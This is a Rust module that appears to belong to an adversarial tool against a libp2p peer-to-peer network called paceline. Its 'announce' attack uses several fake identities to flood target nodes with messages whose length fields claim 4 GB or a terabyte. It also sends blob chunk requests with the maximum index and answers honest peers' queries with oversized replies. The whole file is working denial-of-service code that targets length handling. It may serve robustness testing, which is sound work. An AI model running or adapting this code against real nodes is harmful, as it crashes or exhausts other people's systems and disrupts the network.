//! Lengths that nobody could keep.

use std::sync::Arc;
use std::time::Duration;

use futures::{AsyncReadExt, AsyncWriteExt};
use paceline::net::BlobRequest;
use paceline_protocol::Hash;

use crate::Attack;
use crate::enemy::Enemy;
use crate::flood::{field, framed, varint};
use crate::target::Target;

/// Identities at a time against each target.
const IDENTITIES: usize = 4;

const TERABYTE: u64 = 1 << 40;

/// See [`crate::Kind::Announce`].
pub(crate) async fn announce(attack: Arc<Attack>) {
    let work = |attack: Arc<Attack>, mut enemy: Enemy, target: Target, n| async move {
        if !enemy.connect(&target).await {
            return;
        }
        let mut failures = 0;
        let mut k: u64 = n;
        while attack.goes_on() && failures < 4 {
            k += 1;
            // Questions that honest nodes ask meanwhile: the answer is four gigabytes long.
            while let Ok((_, mut stream)) = enemy.inbound.try_recv() {
                tokio::spawn(async move {
                    let huge = [&[1][..], &u32::MAX.to_le_bytes(), &[0; 60_000]].concat();
                    let _ = stream.write_all(&huge).await;
                    tokio::time::sleep(Duration::from_secs(5)).await;
                });
            }
            let (protocol, bytes) = piece(&attack, k);
            let Some(mut stream) = enemy.open(&target, &protocol).await else {
                failures += 1;
                continue;
            };
            failures = 0;
            let talk = async {
                stream.write_all(&bytes).await?;
                stream.flush().await?;
                attack.tally.sent(bytes.len());
                stream.read(&mut [0; 64]).await
            };
            if let Ok(Ok(1..)) = tokio::time::timeout(Duration::from_millis(200), talk).await {
                attack.tally.answered();
            }
        }
    };
    attack.with_enemies(IDENTITIES, work).await;
}

fn piece(attack: &Attack, k: u64) -> (libp2p::StreamProtocol, Vec<u8>) {
    let names = &attack.names;
    // As much as is said, as far as it fits.
    let most = attack.noise(k, 60_000);
    match k % 6 {
        // A message of 4 GB.
        0 => (names.direct.clone(), [&u32::MAX.to_le_bytes()[..], &most].concat()),
        // A batch within its bound, whose message is not.
        1 => (names.direct.clone(), framed(&[&u32::MAX.to_le_bytes()[..], &most].concat())),
        // A request, and an introduction, of 4 GB.
        2 => (names.blobs.clone(), [&u32::MAX.to_le_bytes()[..], &most].concat()),
        3 => (names.exchange.clone(), [&u32::MAX.to_le_bytes()[..], &most].concat()),
        // Gossip of a terabyte, and gossip within a frame that is smaller than itself.
        4 => {
            let mut bytes = Vec::new();
            varint(&mut bytes, TERABYTE);
            bytes.extend(field(2, &most));
            (names.gossip.clone(), bytes)
        }
        // The last chunk of a blob with as many as an index can say.
        _ => {
            let blob = attack.blob.unwrap_or(Hash::of(b"nothing"));
            (names.blobs.clone(), framed(&BlobRequest::Chunk { blob, index: u32::MAX }.encode()))
        }
    }
}
